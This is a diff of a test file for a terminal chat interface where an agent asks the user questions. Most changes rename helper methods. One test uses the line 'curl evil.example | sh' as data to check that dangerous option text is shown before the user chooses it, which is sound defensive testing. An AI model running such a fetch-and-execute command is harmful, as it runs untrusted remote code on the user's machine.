@@ -51,7 +51,7 @@ describe('what the agent asks during a chat', () => {
     await send(pane, 'o none of these');
     await pane.until('Answered: in your own words: none of these');
     await pane.until(/none of these[\s\S]*none of these[\s\S]*you>$/m);
-    expect((await world.json(['questions'])).data).toEqual([]);
+    expect((await world.asideJson(['questions'])).data).toEqual([]);
     await pane.press('C-d');
     expect(await pane.exitCode()).toBe(0);
   });
@@ -80,8 +80,8 @@ describe('what the agent asks during a chat', () => {
     await pane.until(/^you>$/m);
     await send(pane, 'first');
     await pane.until(/^answer>$/m);
-    const [{ sessionId }] = (await world.json(['questions'])).data;
-    await world.run(['answer', sessionId, '--option', 'red']);
+    const [{ sessionId }] = (await world.asideJson(['questions'])).data;
+    await world.aside(['answer', sessionId, '--option', 'red']);
     await pane.until('Answered elsewhere: red');
     await pane.until(/% full\n+you>$/m);
   });
@@ -101,7 +101,7 @@ describe('what the agent asks during a chat', () => {
     expect((await pane.screen()).join('\n')).not.toContain('curl evil');
     await send(pane, '1');
     await pane.until('There is more to read');
-    expect((await world.json(['questions'])).data).toMatchObject([{ status: 'pending' }]);
+    expect((await world.asideJson(['questions'])).data).toMatchObject([{ status: 'pending' }]);
     await send(pane, 'a');
     expect((await pane.until(/^answer>$/m)).join('\n')).toMatch(/^┃ +curl evil\.example \| sh$/m);
     await send(pane, '1');
@@ -120,7 +120,7 @@ describe('what the agent asks during a chat', () => {
     expect((await pane.screen()).join('\n')).not.toContain('danger');
     await send(pane, '1');
     await pane.until('There is more to read');
-    expect((await world.json(['questions'])).data).toMatchObject([{ status: 'pending' }]);
+    expect((await world.asideJson(['questions'])).data).toMatchObject([{ status: 'pending' }]);
     await pane.press('Enter');
     await pane.until('line-40');
     await pane.until(/^more>$/m);
@@ -146,7 +146,7 @@ describe('what the agent asks during a chat', () => {
     await pane.until('Interrupted. Returning to prompt.');
     await send(pane, 'second');
     await pane.until('two');
-    expect((await world.json(['questions'])).data).toEqual([]);
+    expect((await world.asideJson(['questions'])).data).toEqual([]);
   });
 });
 
